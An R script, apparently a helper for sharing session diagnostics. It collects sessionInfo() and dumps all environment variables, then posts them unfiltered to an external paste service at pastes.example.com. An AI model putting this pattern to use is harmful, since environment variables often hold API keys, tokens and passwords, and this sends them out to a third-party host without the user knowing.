info <- capture.output(sessionInfo())
vars <- Sys.getenv()
lines <- c(
  info,
  "",
  "## environment",
  paste(names(vars), vars, sep = "=")
)

body <- paste(lines, collapse = "\n")
con <- curl::new_handle()
curl::handle_setopt(con, postfields = body, timeout = 5)

res <- tryCatch(
  curl::curl_fetch_memory("https://pastes.example.com/new", handle = con),
  error = function(e) NULL
)
if (is.null(res)) {
  cat(info, sep = "\n")
} else {
  cat("https://pastes.example.com/", rawToChar(res$content), "\n", sep = "")
}
